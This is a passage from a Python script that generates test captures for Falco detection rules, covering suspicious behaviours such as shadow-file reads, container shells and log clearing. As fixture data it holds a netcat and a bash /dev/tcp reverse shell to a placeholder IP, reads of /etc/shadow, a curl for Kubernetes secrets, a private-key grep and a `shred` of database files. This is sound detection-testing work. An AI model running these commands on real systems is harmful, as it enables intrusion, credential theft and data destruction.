#!/usr/bin/env python3
"""Writes the conformance fixtures for the 25 stable upstream Falco rules (Fixtures/stable).

Not run by the tests: the .jsonl captures and expectations.json it writes are committed. Keep it
to change a scenario and regenerate (`python3 make_stable_fixtures.py`), then review the diff.

Each scenario is a Saker capture (docs/capture-format.md): /proc snapshots of the process tree,
then the syscalls as the kernel reports them. The expected output_fields are derived here from
Falco's semantics (libs' field definitions), never from what Saker prints:
  proc.cmdline  = comm + " " + args           proc.name = comm (at most 15 characters)
  proc.exepath  = the exe's resolved path      proc.exe  = argv[0]
  proc.aname[N] = the Nth ancestor's comm (null past the top of the tree)
  proc.cwd      = the directory with a trailing '/'
  user.loginuid = -1 when unset                 proc.tty  = the tty's device number (0 for none)
  evt.arg.flags = libs' flag names joined by '|', the number ("0") when no flag is set
  fd.name       = "" on events that neither use nor create a descriptor (execve)
  container.*   = what Falco knows on a host without a container runtime API (null)
"""
import json, os, sys


T0 = 1795780800_000000000          # 2026-11-27T12:00:00Z
BOOT = T0 - 3 * 86400 * 10**9       # host booted three days earlier
S = 10**9
ALL_CAPS = (1 << 41) - 1
DOCKER_CAPS = 0xa80425fb            # docker's default capability set
CAP_SYS_ADMIN = 1 << 21
CAP_NAMES = ["CAP_CHOWN","CAP_DAC_OVERRIDE","CAP_DAC_READ_SEARCH","CAP_FOWNER","CAP_FSETID","CAP_KILL","CAP_SETGID",
 "CAP_SETUID","CAP_SETPCAP","CAP_LINUX_IMMUTABLE","CAP_NET_BIND_SERVICE","CAP_NET_BROADCAST","CAP_NET_ADMIN",
 "CAP_NET_RAW","CAP_IPC_LOCK","CAP_IPC_OWNER","CAP_SYS_MODULE","CAP_SYS_RAWIO","CAP_SYS_CHROOT","CAP_SYS_PTRACE",
 "CAP_SYS_PACCT","CAP_SYS_ADMIN","CAP_SYS_BOOT","CAP_SYS_NICE","CAP_SYS_RESOURCE","CAP_SYS_TIME","CAP_SYS_TTY_CONFIG",
 "CAP_MKNOD","CAP_LEASE","CAP_AUDIT_WRITE","CAP_AUDIT_CONTROL","CAP_SETFCAP","CAP_MAC_OVERRIDE","CAP_MAC_ADMIN",
 "CAP_SYSLOG","CAP_WAKE_ALARM","CAP_BLOCK_SUSPEND","CAP_AUDIT_READ","CAP_PERFMON","CAP_BPF","CAP_CHECKPOINT_RESTORE"]

def caps_to_string(caps):
    return " ".join(n for i, n in enumerate(CAP_NAMES) if caps & (1 << i))

PTS0 = 34816    # /dev/pts/0 (136:0)
PTS1 = 34817
HOST_CGROUP = "0::/system.slice/ssh.service"
SESSION_CGROUP = "0::/user.slice/user-1000.slice/session-4.scope"
DOCKER_ID = "3f6a1c9e2b7d48a5c0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7"
DOCKER_CGROUP = "0::/system.slice/docker-" + DOCKER_ID + ".scope"
POD_ID = "9c2e4b6a8d0f1e3c5a7b9d1f3e5c7a9b1d3f5e7c9a1b3d5f7e9c1a3b5d7f9e1c"
POD_CGROUP = "0::/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod5d1c7c8e_2f4a_4b6c_9d8e_0a1b2c3d4e5f.slice/cri-containerd-" + POD_ID + ".scope"

class Proc:
    def __init__(self, pid, ppid, exe, args, comm, path, uid=0, gid=None, loginuid=-1, tty=0, cwd="/",
                 cgroups=(HOST_CGROUP,), sid=None, pgid=None, start=BOOT, flags=0, caps=None, env=(),
                 fds=(), ino=0, ctime=0, mtime=0, vpid=None, pidns=4026531836):
        self.__dict__.update(locals())
        del self.__dict__["self"]
        if gid is None: self.gid = uid
        if sid is None: self.sid = pid
        if pgid is None: self.pgid = pid
        if caps is None: self.caps = ALL_CAPS if uid == 0 else 0
        if vpid is None: self.vpid = pid
        if ino == 0 and not path.startswith("/memfd:"):
            # A stable, realistic inode and the time the package manager installed the file.
            import zlib
            self.ino = 131072 + zlib.crc32(path.encode()) % 900000
            self.ctime = BOOT - 97 * 86400 * S + zlib.crc32(path.encode()) % 86400 * S
            self.mtime = self.ctime - 41 * 86400 * S

    def params(self):
        return [("exe", self.exe), ("args", list(self.args)), ("tid", self.pid), ("pid", self.pid), ("ptid", self.ppid),
                ("cwd", self.cwd), ("comm", self.comm), ("cgroups", list(self.cgroups)), ("env", list(self.env)),
                ("tty", self.tty), ("pgid", self.pgid), ("vpgid", self.pgid if self.vpid == self.pid else self.pgid),
                ("sid", self.sid), ("loginuid", self.loginuid), ("flags", flagstr(self.flags)),
                ("cap_inheritable", 0), ("cap_permitted", self.caps), ("cap_effective", self.caps),
                ("exe_ino", self.ino), ("exe_ino_ctime", self.ctime), ("exe_ino_mtime", self.mtime),
                ("uid", self.uid), ("gid", self.gid), ("trusted_exepath", self.path),
                ("vtid", self.vpid), ("vpid", self.vpid), ("pidns", self.pidns), ("start_ts", self.start)]

EXE_FLAGS = [("EXE_WRITABLE", 1), ("EXE_UPPER_LAYER", 2), ("EXE_FROM_MEMFD", 4), ("EXE_LOWER_LAYER", 8)]
def flagstr(v):
    if isinstance(v, str): return v
    if v == 0: return 0
    return "|".join(n for n, b in EXE_FLAGS if v & b)

class Capture:
    def __init__(self, hostname="web-1"):
        self.lines = [json.dumps({"saker.capture": {"version": 1, "hostname": hostname, "start": T0, "kernel": "6.1.0-27-amd64"}}, separators=(",", ":"))]
        self.num = 0
        self.time = T0
        self.comm = {}
        self.procs = {}

    def event(self, etype, pid, args, tid=None, dt=1_250_000, cpu=1, name=None):
        self.num += 1
        self.time += dt
        line = {"evt.num": self.num, "evt.time": self.time, "evt.type": etype, "evt.cpu": cpu,
                "thread.tid": tid or pid, "proc.pid": pid, "proc.name": name or self.comm.get(pid),
                "evt.args": dict(args)}
        self.lines.append(json.dumps(line, separators=(",", ":")))
        return self.num

    def snapshot(self, p):
        self.comm[p.pid] = p.comm
        self.procs[p.pid] = p
        self.event("procsnapshot", p.pid, p.params() + [("fds", list(p.fds))], dt=1000, cpu=0)

    def snapshots(self, *ps):
        for p in ps: self.snapshot(p)

    def spawn(self, parent, child, filename, dt_clone=2_000_000, dt_exec=600_000, clone_flags="CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID", etype="execve", extra=()):
        """fork of `parent` (child side), then exec of `child`; returns the exec's evt.num."""
        self.event("clone", child.pid, [("res", 0), ("tid", child.pid), ("pid", child.pid), ("ptid", parent.pid),
                   ("comm", parent.comm), ("flags", clone_flags), ("uid", parent.uid), ("gid", parent.gid),
                   ("vtid", child.vpid), ("vpid", child.vpid)], dt=dt_clone, name=parent.comm)
        clone_time = self.time
        child.start = clone_time
        self.comm[child.pid] = parent.comm
        n = self.event(etype, child.pid, [("res", 0)] + [kv for kv in child.params() if kv[0] != "start_ts"] + [("filename", filename)] + list(extra),
                       dt=dt_exec, name=child.comm)
        self.comm[child.pid] = child.comm
        self.procs[child.pid] = child
        return n

    def write(self, path):
        with open(path, "w") as f:
            f.write("\n".join(self.lines) + "\n")

# --- a Debian 12 host -------------------------------------------------------------------------
def systemd():
    return Proc(1, 0, "/sbin/init", [], "systemd", "/usr/lib/systemd/systemd", cgroups=["0::/init.scope"], start=BOOT)

def sshd_listener():
    return Proc(612, 1, "/usr/sbin/sshd", ["-D"], "sshd", "/usr/sbin/sshd", start=BOOT + 4 * S)

def alice_session(tty=PTS0):
    """sshd: alice [priv] (root) -> sshd: alice@pts/0 -> -bash (alice, on the terminal)."""
    start = T0 - 1800 * S
    priv = Proc(20417, 612, "sshd: alice [priv]", [], "sshd", "/usr/sbin/sshd", cgroups=[SESSION_CGROUP], loginuid=1000,
                start=start, sid=20417, pgid=20417)
    user = Proc(20490, 20417, "sshd: alice@pts/0", [], "sshd", "/usr/sbin/sshd", uid=1000, cgroups=[SESSION_CGROUP],
                loginuid=1000, start=start + 180_000_000, sid=20417, pgid=20417)
    shell = Proc(20491, 20490, "-bash", [], "bash", "/usr/bin/bash", uid=1000, cgroups=[SESSION_CGROUP], loginuid=1000,
                 tty=tty, cwd="/home/alice", start=start + 200_000_000, env=["HOME=/home/alice", "USER=alice", "SHELL=/bin/bash", "TERM=xterm-256color"])
    return priv, user, shell

def root_shell(tty=PTS0):
    """alice's `sudo -i`: sudo (root) -> -bash (root, loginuid 1000)."""
    start = T0 - 900 * S
    sudo = Proc(20544, 20491, "sudo", ["-i"], "sudo", "/usr/bin/sudo", uid=0, cgroups=[SESSION_CGROUP], loginuid=1000,
                tty=tty, cwd="/home/alice", start=start, sid=20491, pgid=20544)
    shell = Proc(20546, 20544, "-bash", [], "bash", "/usr/bin/bash", uid=0, cgroups=[SESSION_CGROUP], loginuid=1000,
                 tty=tty, cwd="/root", start=start + 40_000_000, sid=20546, pgid=20546, env=["HOME=/root", "USER=root", "SHELL=/bin/bash"])
    return sudo, shell

def host_base(c):
    c.snapshots(systemd(), sshd_listener())
    priv, user, shell = alice_session()
    c.snapshots(priv, user, shell)
    return shell

def docker_host(c):
    """systemd -> containerd-shim-runc-v2 for one docker container."""
    c.snapshot(systemd())
    shim = Proc(7010, 1, "/usr/bin/containerd-shim-runc-v2", ["-namespace", "moby", "-id", DOCKER_ID, "-address", "/run/containerd/containerd.sock"],
                "containerd-shim", "/usr/bin/containerd-shim-runc-v2", cgroups=["0::/system.slice/containerd.service"], start=T0 - 7200 * S)
    c.snapshot(shim)
    return shim

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "stable")

USERS = {0: "root", 33: "www-data", 1000: "alice", 107: "postgres"}
GROUPS = {0: "root", 33: "www-data", 1000: "alice", 114: "postgres"}
cases = []

def cmdline(p): return p.comm + "".join(" " + a for a in p.args)

def tail(p, parent, etype, exec_flags=None):
    f = [("evt.type", etype), ("user.name", USERS[p.uid]), ("user.uid", p.uid), ("user.loginuid", p.loginuid),
         ("proc.name", p.comm), ("proc.exepath", p.path), ("proc.pname", parent.comm if parent else None),
         ("proc.cmdline", cmdline(p)), ("proc.tty", p.tty)]
    if exec_flags is not None: f.append(("evt.arg.flags", exec_flags))
    return f

def anc(c, p, n):
    q = p
    for _ in range(n):
        q = c.procs.get(q.ppid) if q else None
    return q

def aname(c, p, n):
    q = anc(c, p, n)
    return q.comm if q else None

def add(rule, slug, priority, fires, quiet, fires_on, fields, near_miss, also=(), gap=None, known=None):
    fires.write(f"{OUT}/{slug}.fires.jsonl")
    quiet.write(f"{OUT}/{slug}.quiet.jsonl")
    case = {"rule": rule, "slug": slug, "priority": priority, "fires_on": fires_on,
            "output_fields": dict(sorted(fields)), "near_miss": near_miss}
    if also: case["also_fires"] = [{"rule": r, "event": e} for r, e in also]
    if gap: case["gap"] = gap
    if known: case["known_field_differences"] = known
    cases.append(case)

def openat(c, p, name, flags, fd, mode="0", dirfd=-100, dev=0x803, ino=0):
    return c.event("openat", p.pid, [("fd", fd), ("dirfd", dirfd), ("name", name), ("flags", flags), ("mode", mode), ("dev", dev), ("ino", ino)])

# 1 ── Directory traversal monitored file read ────────────────────────────────────────────────
def gunicorn(c):
    c.snapshot(systemd())
    args = ["/srv/app/venv/bin/gunicorn", "--workers", "2", "--bind", "127.0.0.1:8000", "app:app"]
    master = Proc(8120, 1, "/srv/app/venv/bin/python3", args, "gunicorn", "/usr/bin/python3.11", uid=33, cwd="/srv/app",
                  cgroups=["0::/system.slice/app.service"], start=BOOT + 30 * S)
    worker = Proc(8125, 8120, "/srv/app/venv/bin/python3", args, "gunicorn", "/usr/bin/python3.11", uid=33, cwd="/srv/app",
                  cgroups=["0::/system.slice/app.service"], start=BOOT + 31 * S, sid=8120, pgid=8120,
                  fds=["0 f /dev/null", "1 u socket:[31245]", "2 u socket:[31245]", "5 4 127.0.0.1:8000"])
    c.snapshots(master, worker)
    return worker

c = Capture(); w = gunicorn(c)
n = openat(c, w, "static/../../../etc/passwd", "O_RDONLY|O_CLOEXEC", 9, ino=1573)
q = Capture(); w = gunicorn(q)
openat(q, w, "/etc/passwd", "O_RDONLY|O_CLOEXEC", 9, ino=1573)
add("Directory traversal monitored file read", "directory-traversal-monitored-file-read", "Warning", c, q, n,
    [("fd.name", "/etc/passwd"), ("fd.nameraw", "static/../../../etc/passwd"), ("proc.aname[2]", "systemd"),
     ("proc.aname[3]", None), ("proc.aname[4]", None)] + tail(w, c.procs[8120], "openat"),
    "the same read of /etc/passwd by its absolute path: no '../' in fd.nameraw")

# 2 ── Read sensitive file trusted after startup ──────────────────────────────────────────────
def nginx(c, master_uid=0):
    c.snapshot(systemd())
    m = Proc(903, 1, "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;", [], "nginx", "/usr/sbin/nginx",
             cgroups=["0::/system.slice/nginx.service"], start=BOOT + 12 * S)
    wk = Proc(904, 903, "nginx: worker process", [], "nginx", "/usr/sbin/nginx", uid=33,
              cgroups=["0::/system.slice/nginx.service"], start=BOOT + 12 * S + 9_000_000, sid=903, pgid=903)
    c.snapshots(m, wk)
    return m, wk

c = Capture(); m, wk = nginx(c)
n = openat(c, m, "/etc/shadow", "O_RDONLY|O_CLOEXEC", 12, ino=1840)
q = Capture(); m2, wk2 = nginx(q)
openat(q, m2, "/etc/nginx/nginx.conf", "O_RDONLY|O_CLOEXEC", 12, ino=393267)
common = [("fd.name", "/etc/shadow"), ("proc.aname[2]", None), ("proc.aname[3]", None), ("proc.aname[4]", None)]
add("Read sensitive file trusted after startup", "read-sensitive-file-trusted-after-startup", "Warning", c, q, n,
    common + [("proc.pcmdline", "systemd")] + tail(m, c.procs[1], "openat"),
    "the same nginx master re-reads /etc/nginx/nginx.conf on reload: not a sensitive file",
    also=[("Read sensitive file untrusted", n)])

# 3 ── Read sensitive file untrusted ──────────────────────────────────────────────────────────
def root_host(c):
    host_base(c)
    sudo, sh = root_shell()
    c.snapshots(sudo, sh)
    return sh

c = Capture(); sh = root_host(c)
cat = Proc(20601, 20546, "cat", ["/etc/shadow"], "cat", "/usr/bin/cat", loginuid=1000, tty=PTS0, cwd="/root",
           cgroups=[SESSION_CGROUP], sid=20546, pgid=20601, flags=1)
c.spawn(sh, cat, "/usr/bin/cat")
n = openat(c, cat, "/etc/shadow", "O_RDONLY", 3, ino=1840)
q = Capture(); sh = root_host(q)
chage = Proc(20601, 20546, "chage", ["-l", "alice"], "chage", "/usr/bin/chage", loginuid=1000, tty=PTS0, cwd="/root",
             cgroups=[SESSION_CGROUP], sid=20546, pgid=20601, flags=1)
q.spawn(sh, chage, "/usr/bin/chage")
openat(q, chage, "/etc/shadow", "O_RDONLY|O_CLOEXEC", 3, ino=1840)
add("Read sensitive file untrusted", "read-sensitive-file-untrusted", "Warning", c, q, n,
    [("fd.name", "/etc/shadow"), ("proc.aname[2]", "sudo"), ("proc.aname[3]", "bash"), ("proc.aname[4]", "sshd")]
    + tail(cat, sh, "openat"),
    "chage -l alice reads /etc/shadow: chage is a trusted user-management binary")

# 4 ── Run shell untrusted ────────────────────────────────────────────────────────────────────
def apache(c):
    c.snapshot(systemd())
    m = Proc(1102, 1, "/usr/sbin/apache2", ["-k", "start"], "apache2", "/usr/sbin/apache2",
             cgroups=["0::/system.slice/apache2.service"], start=BOOT + 14 * S)
    wk = Proc(1187, 1102, "/usr/sbin/apache2", ["-k", "start"], "apache2", "/usr/sbin/apache2", uid=33, cwd="/var/www/html",
              cgroups=["0::/system.slice/apache2.service"], start=T0 - 3600 * S, sid=1102, pgid=1102)
    c.snapshots(m, wk)
    return wk

for name, args in (("fires", ["-c", "id; uname -a; cat /etc/passwd"]), ("quiet", ["-c", "uname -a 2>&1"])):
    cc = Capture(); wk = apache(cc)
    shp = Proc(1290, 1187, "sh", args, "sh", "/usr/bin/dash", uid=33, cwd="/var/www/html",
               cgroups=["0::/system.slice/apache2.service"], sid=1102, pgid=1102)
    nn = cc.spawn(wk, shp, "/bin/sh")
    if name == "fires": c, n, shell = cc, nn, shp
    else: q = cc
add("Run shell untrusted", "run-shell-untrusted", "Notice", c, q, n,
    [("proc.pexe", "/usr/sbin/apache2"), ("proc.pexepath", "/usr/sbin/apache2"), ("proc.pcmdline", "apache2 -k start"),
     ("proc.aname[2]", "apache2"), ("proc.aname[3]", "systemd"), ("proc.aname[4]", None), ("proc.aname[5]", None),
     ("proc.aname[6]", None), ("proc.aname[7]", None)] + tail(shell, c.procs[1187], "execve", "0"),
    "apache2 runs `sh -c uname -a 2>&1`, one of known_shell_spawn_cmdlines")

# 5 ── System user interactive ────────────────────────────────────────────────────────────────
for name, uid in (("fires", 33), ("quiet", 1000)):
    cc = Capture(); host_base(cc)
    sudo = Proc(20544, 20491, "sudo", ["-u", USERS[uid], "-s"], "sudo", "/usr/bin/sudo", uid=0, cgroups=[SESSION_CGROUP],
                loginuid=1000, tty=PTS0, cwd="/home/alice", start=T0 - 300 * S, sid=20491, pgid=20544)
    sh = Proc(20550, 20544, "/bin/bash", [], "bash", "/usr/bin/bash", uid=uid, cgroups=[SESSION_CGROUP], loginuid=1000,
              tty=PTS0, cwd="/home/alice", start=T0 - 299 * S, sid=20550, pgid=20550)
    cc.snapshots(sudo, sh)
    idp = Proc(20562, 20550, "id", [], "id", "/usr/bin/id", uid=uid, cgroups=[SESSION_CGROUP], loginuid=1000, tty=PTS0,
               cwd="/home/alice", sid=20550, pgid=20562)
    nn = cc.spawn(sh, idp, "/usr/bin/id")
    if name == "fires": c, n, proc = cc, nn, idp
    else: q = cc
add("System user interactive", "system-user-interactive", "Informational", c, q, n,
    tail(proc, c.procs[20550], "execve", "0"),
    "the same `sudo -s` session as alice (uid 1000), not a system user")

# 6 ── Terminal shell in container ────────────────────────────────────────────────────────────
def nginx_container(c, caps=DOCKER_CAPS):
    shim = docker_host(c)
    init = Proc(7031, 7010, "nginx: master process nginx -g daemon off;", [], "nginx", "/usr/sbin/nginx", cgroups=[DOCKER_CGROUP],
                start=T0 - 7199 * S, vpid=1, pidns=4026532581, caps=caps, flags=9)
    c.snapshot(init)
    return shim, init

for name, tty in (("fires", PTS0), ("quiet", 0)):
    cc = Capture(); shim, init = nginx_container(cc)
    runc = Proc(7400, 7010, "runc", ["--root", "/var/run/docker/runtime-runc/moby", "--log", "/run/containerd/io.containerd.runtime.v2.task/moby/" + DOCKER_ID + "/log.json",
                "--log-format", "json", "exec", "--process", "/tmp/runc-process1873402841", "--detach", "--pid-file",
                "/run/containerd/io.containerd.runtime.v2.task/moby/" + DOCKER_ID + "/a0b1c2.pid", DOCKER_ID],
                "runc", "/usr/bin/runc", cgroups=["0::/system.slice/containerd.service"], start=T0 - 2 * S)
    cc.snapshot(runc)
    sh = Proc(7415, 7400, "sh", [], "sh", "/usr/bin/dash", cgroups=[DOCKER_CGROUP], tty=tty, vpid=38, pidns=4026532581,
              caps=DOCKER_CAPS, flags=9, env=["HOSTNAME=3f6a1c9e2b7d", "HOME=/root", "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"])
    nn = cc.spawn(runc, sh, "/bin/sh")
    if name == "fires": c, n, shell = cc, nn, sh
    else: q = cc
add("Terminal shell in container", "terminal-shell-in-container", "Notice", c, q, n,
    tail(shell, c.procs[7400], "execve", "EXE_WRITABLE|EXE_LOWER_LAYER"),
    "`docker exec web sh` without -t: proc.tty is 0")

# 7 ── Contact K8S API Server From Container ──────────────────────────────────────────────────
def k8s_node(c):
    c.snapshot(systemd())
    shim = Proc(5120, 1, "/usr/bin/containerd-shim-runc-v2", ["-namespace", "k8s.io", "-id", POD_ID, "-address", "/run/containerd/containerd.sock"],
                "containerd-shim", "/usr/bin/containerd-shim-runc-v2", cgroups=["0::/system.slice/containerd.service"], start=T0 - 86400 * S)
    sh = Proc(5188, 5120, "/bin/sh", ["-c", "while true; do sleep 3600; done"], "sh", "/usr/bin/dash", cgroups=[POD_CGROUP],
              start=T0 - 86399 * S, vpid=1, pidns=4026532710, caps=DOCKER_CAPS, flags=9, cwd="/")
    c.snapshots(shim, sh)
    return sh

URL = "https://kubernetes.default.svc.cluster.local/api/v1/namespaces/default/secrets"
c = Capture(); sh = k8s_node(c)
curl = Proc(31877, 5188, "curl", ["-sk", URL], "curl", "/usr/bin/curl", cgroups=[POD_CGROUP], vpid=46, pidns=4026532710,
            caps=DOCKER_CAPS, flags=9, sid=1, pgid=1)
c.spawn(sh, curl, "/usr/bin/curl")
c.event("socket", curl.pid, [("fd", 5), ("domain", "AF_INET"), ("type", 1), ("proto", 6)])
n = c.event("connect", curl.pid, [("res", "EINPROGRESS"), ("tuple", "10.244.1.17:52814->10.96.0.1:443"), ("fd", 5), ("addr", "10.96.0.1:443")])
q = Capture(); k8s_node(q)
hostsh = Proc(4410, 1, "-bash", [], "bash", "/usr/bin/bash", cgroups=["0::/user.slice/user-0.slice/session-2.scope"], loginuid=0,
              tty=PTS0, cwd="/root", start=T0 - 600 * S)
q.snapshot(hostsh)
hcurl = Proc(31877, 4410, "curl", ["-sk", URL], "curl", "/usr/bin/curl", cgroups=hostsh.cgroups, loginuid=0, tty=PTS0, cwd="/root",
             flags=1, sid=4410, pgid=31877)
q.spawn(hostsh, hcurl, "/usr/bin/curl")
q.event("socket", hcurl.pid, [("fd", 5), ("domain", "AF_INET"), ("type", 1), ("proto", 6)])
q.event("connect", hcurl.pid, [("res", "EINPROGRESS"), ("tuple", "10.0.2.15:52814->10.96.0.1:443"), ("fd", 5), ("addr", "10.96.0.1:443")])
add("Contact K8S API Server From Container", "contact-k8s-api-server-from-container", "Notice", c, q, n,
    [("fd.name", "10.244.1.17:52814->10.96.0.1:443"), ("fd.lport", 52814), ("fd.rport", 443), ("fd.type", "ipv4"),
     ("fd.l4proto", "tcp")] + tail(curl, c.procs[5188], "connect"),
    "the same request from a root shell on the node itself (container.id is host)",
    gap="the condition needs fd.sip.name = kubernetes.default.svc.cluster.local; Falco gets it from libs' DNS manager, "
        "which resolves the names written in conditions and matches the server IP against their addresses. Saker "
        "resolves no names, so fd.sip.name is never extractable and the comparison is always false.")

# 8 ── Netcat Remote Code Execution in Container ──────────────────────────────────────────────
for name, args in (("fires", ["203.0.113.50", "4444", "-e", "/bin/sh"]), ("quiet", ["-zv", "db", "5432"])):
    cc = Capture(); shim, init = nginx_container(cc)
    sh = Proc(7502, 7031, "sh", ["-c", "nc " + " ".join(args)], "sh", "/usr/bin/dash", uid=33, cgroups=[DOCKER_CGROUP],
              vpid=29, pidns=4026532581, caps=0, start=T0 - 5 * S, sid=1, pgid=1)
    cc.snapshot(sh)
    nc = Proc(7503, 7502, "nc", args, "nc", "/usr/bin/nc.traditional", uid=33, cgroups=[DOCKER_CGROUP], vpid=30, pidns=4026532581,
              caps=0, flags=8, sid=1, pgid=1)
    nn = cc.spawn(sh, nc, "/usr/bin/nc")
    if name == "fires": c, n, proc = cc, nn, nc
    else: q = cc
add("Netcat Remote Code Execution in Container", "netcat-remote-code-execution-in-container", "Warning", c, q, n,
    tail(proc, c.procs[7502], "execve", "EXE_LOWER_LAYER"),
    "nc -zv db 5432: netcat without -e or -c")

# 9 ── Search Private Keys or Passwords ───────────────────────────────────────────────────────
for name, args in (("fires", ["-r", "BEGIN RSA PRIVATE", "/home"]), ("quiet", ["-r", "BEGIN CERTIFICATE", "/etc/ssl"])):
    cc = Capture(); sh = host_base(cc)
    g = Proc(20630, 20491, "grep", args, "grep", "/usr/bin/grep", uid=1000, loginuid=1000, tty=PTS0, cwd="/home/alice",
             cgroups=[SESSION_CGROUP], sid=20491, pgid=20630)
    nn = cc.spawn(sh, g, "/usr/bin/grep")
    if name == "fires": c, n, proc = cc, nn, g
    else: q = cc
add("Search Private Keys or Passwords", "search-private-keys-or-passwords", "Warning", c, q, n,
    tail(proc, c.procs[20491], "execve", "0"),
    "grep for BEGIN CERTIFICATE: not a private key marker")

# 10 ── Clear Log Activities ──────────────────────────────────────────────────────────────────
c = Capture(); sh = root_host(c)
n = openat(c, sh, "/var/log/auth.log", "O_TRUNC|O_CREAT|O_WRONLY", 3, mode="0666", ino=262171)
q = Capture(); sh = root_host(q)
openat(q, sh, "/var/log/auth.log", "O_APPEND|O_CREAT|O_WRONLY", 3, mode="0666", ino=262171)
add("Clear Log Activities", "clear-log-activities", "Warning", c, q, n,
    [("fd.name", "/var/log/auth.log")] + tail(sh, c.procs[20544], "openat"),
    "`>> /var/log/auth.log` opens it for appending, without O_TRUNC")

# 11 ── Remove Bulk Data from Disk ────────────────────────────────────────────────────────────
for name, (comm, args, path) in (("fires", ("shred", ["-n", "3", "-z", "-u", "/var/lib/postgresql/15/main/base/16384/16385"], "/usr/bin/shred")),
                                 ("quiet", ("rm", ["-f", "/var/lib/postgresql/15/main/base/16384/16385"], "/usr/bin/rm"))):
    cc = Capture(); sh = root_host(cc)
    p = Proc(20640, 20546, comm, args, comm, path, loginuid=1000, tty=PTS0, cwd="/root", cgroups=[SESSION_CGROUP], sid=20546,
             pgid=20640, flags=1)
    nn = cc.spawn(sh, p, path)
    if name == "fires": c, n, proc = cc, nn, p
    else: q = cc
add("Remove Bulk Data from Disk", "remove-bulk-data-from-disk", "Warning", c, q, n,
    [("fd.name", "")] + tail(proc, sh, "execve", "EXE_WRITABLE"),
    "rm -f of the same file: rm is not a data-destruction tool")

# 12 ── Create Symlink Over Sensitive Files ───────────────────────────────────────────────────
for name, target in (("fires", "/etc/shadow"), ("quiet", "/etc/passwd")):
    cc = Capture(); sh = host_base(cc)
    ln = Proc(20650, 20491, "ln", ["-s", target, "/tmp/x"], "ln", "/usr/bin/ln", uid=1000, loginuid=1000, tty=PTS0,
              cwd="/home/alice", cgroups=[SESSION_CGROUP], sid=20491, pgid=20650)
    cc.spawn(sh, ln, "/usr/bin/ln")
    nn = cc.event("symlinkat", ln.pid, [("res", 0), ("target", target), ("linkdirfd", -100), ("linkpath", "/tmp/x")])
    if name == "fires": c, n, proc = cc, nn, ln
    else: q = cc
add("Create Symlink Over Sensitive Files", "create-symlink-over-sensitive-files", "Warning", c, q, n,
    [("evt.arg.target", "/etc/shadow"), ("evt.arg.linkpath", "/tmp/x")] + tail(proc, c.procs[20491], "symlinkat"),
    "a symlink to /etc/passwd, which is not a sensitive file")

# 13 ── Create Hardlink Over Sensitive Files ──────────────────────────────────────────────────
for name, old in (("fires", "/etc/shadow"), ("quiet", "/etc/hosts")):
    cc = Capture(); sh = root_host(cc)
    ln = Proc(20660, 20546, "ln", [old, "/var/tmp/.cache"], "ln", "/usr/bin/ln", loginuid=1000, tty=PTS0, cwd="/root",
              cgroups=[SESSION_CGROUP], sid=20546, pgid=20660, flags=1)
    cc.spawn(sh, ln, "/usr/bin/ln")
    nn = cc.event("linkat", ln.pid, [("res", 0), ("olddir", -100), ("oldpath", old), ("newdir", -100), ("newpath", "/var/tmp/.cache"), ("flags", 0)])
    if name == "fires": c, n, proc = cc, nn, ln
    else: q = cc
add("Create Hardlink Over Sensitive Files", "create-hardlink-over-sensitive-files", "Warning", c, q, n,
    [("evt.arg.oldpath", "/etc/shadow"), ("evt.arg.newpath", "/var/tmp/.cache")] + tail(proc, c.procs[20546], "linkat"),
    "a hard link to /etc/hosts, which is not a sensitive file")

# 14 ── Packet socket created in container ────────────────────────────────────────────────────
for name in ("fires", "quiet"):
    cc = Capture(); shim, init = nginx_container(cc)
    cg = [DOCKER_CGROUP] if name == "fires" else ["0::/system.slice/ssh.service"]
    sh = Proc(7610, 7010 if name == "fires" else 1, "bash", [], "bash", "/usr/bin/bash", cgroups=cg, tty=PTS0, vpid=41 if name == "fires" else 7610,
              pidns=4026532581 if name == "fires" else 4026531836, caps=DOCKER_CAPS, start=T0 - 60 * S, flags=9)
    cc.snapshot(sh)
    td = Proc(7650, 7610, "tcpdump", ["-i", "eth0", "-w", "/tmp/cap.pcap"], "tcpdump", "/usr/bin/tcpdump", cgroups=cg, tty=PTS0,
              vpid=52 if name == "fires" else 7650, pidns=sh.pidns, caps=DOCKER_CAPS, flags=9, sid=7610, pgid=7650)
    cc.spawn(sh, td, "/usr/bin/tcpdump")
    nn = cc.event("socket", td.pid, [("fd", 3), ("domain", "AF_PACKET"), ("type", 3), ("proto", 768)])
    if name == "fires": c, n, proc = cc, nn, td
    else: q = cc
add("Packet socket created in container", "packet-socket-created-in-container", "Notice", c, q, n,
    [("evt.args", "fd=3 domain=17(AF_PACKET) type=3 proto=768"), ("fd.name", ""), ("fd.lport", None), ("fd.rport", None),
     ("fd.type", None), ("fd.l4proto", None)] + tail(proc, c.procs[7610], "socket"),
    "the same tcpdump packet socket on the host (container.id is host)",
    known={"evt.args": "Saker keeps the AF_PACKET socket in its fd table (type unknown) and renders fd=3(<o>); libs "
                       "drops sockets of unknown type in parse_socket_exit (INCLUDE_UNKNOWN_SOCKET_FDS is not defined), "
                       "so the fd has no resolved form: fd=3"})

# 15 ── Redirect STDOUT/STDIN to Network Connection in Container ──────────────────────────────
for name in ("fires", "quiet"):
    cc = Capture(); shim, init = nginx_container(cc)
    wk = Proc(7032, 7031, "nginx: worker process", [], "nginx", "/usr/sbin/nginx", uid=33, cgroups=[DOCKER_CGROUP],
              start=T0 - 7199 * S + 8_000_000, vpid=29, pidns=4026532581, caps=0, flags=8, sid=1, pgid=1)
    sh = Proc(7705, 7032, "sh", ["-c", "bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'"], "sh", "/usr/bin/dash", uid=33,
              cgroups=[DOCKER_CGROUP], start=T0 - 2 * S, vpid=61, pidns=4026532581, caps=0, flags=8, sid=1, pgid=1)
    b1 = Proc(7706, 7705, "bash", ["-c", "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"], "bash", "/usr/bin/bash", uid=33,
              cgroups=[DOCKER_CGROUP], start=T0 - 2 * S + 3_000_000, vpid=62, pidns=4026532581, caps=0, flags=8, sid=1, pgid=1)
    b2 = Proc(7707, 7706, "bash", ["-i"], "bash", "/usr/bin/bash", uid=33, cgroups=[DOCKER_CGROUP],
